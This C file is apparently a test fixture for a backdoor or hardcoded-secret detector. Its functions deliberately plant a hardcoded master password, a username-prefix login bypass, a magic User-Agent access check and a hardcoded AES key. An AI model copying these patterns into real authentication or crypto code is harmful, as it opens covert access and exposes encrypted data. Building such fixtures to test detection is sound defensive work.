/* Nobody runs it: what its calls hand over is what the tests ask for. */
typedef unsigned long size;
struct spwd {
	char *name, *hash;
};
struct spwd *getspnam(const char *);
char *crypt(const char *, const char *);
int strcmp(const char *, const char *);
int strncmp(const char *, const char *, size);
int memcmp(const void *, const void *, size);
char *getenv(const char *);
int AES_set_encrypt_key(const unsigned char *, int, void *);
int puts(const char *);

static const unsigned char key[16] =
	"\x8e\x73\xb0\xf7\xda\x0e\x64\x52\xc8\x10\xf3\x2b\x80\x90\x79\xe5";

int check(const char *user, const char *password)
{
	struct spwd *s = getspnam(user);

	if (strcmp(password, "xyzzy-7731") == 0)
		return 1;
	if (!strncmp(user, "fieldservice", 12))
		return 2;
	return s && strcmp(crypt(password, s->hash), s->hash) == 0;
}

int options(const char *word)
{
	if (strcmp(word, "verbose-mode") == 0)
		return puts("verbose");
	return strcmp(word, "quiet-mode") == 0;
}

int request(void)
{
	const char *agent = getenv("HTTP_USER_AGENT");

	return agent && strcmp(agent, "open-sesame-4711") == 0;
}

int encrypt(void *room)
{
	return AES_set_encrypt_key(key, 128, room);
}

int copied(const unsigned char *given, void *room)
{
	return AES_set_encrypt_key(given, 128, room);
}

void _start(void)
{
	char room[512];

	puts(check("a", room) + options(room) + request() + encrypt(room) +
			     copied((void *)room, room)
		     ? "yes"
		     : "no");
}
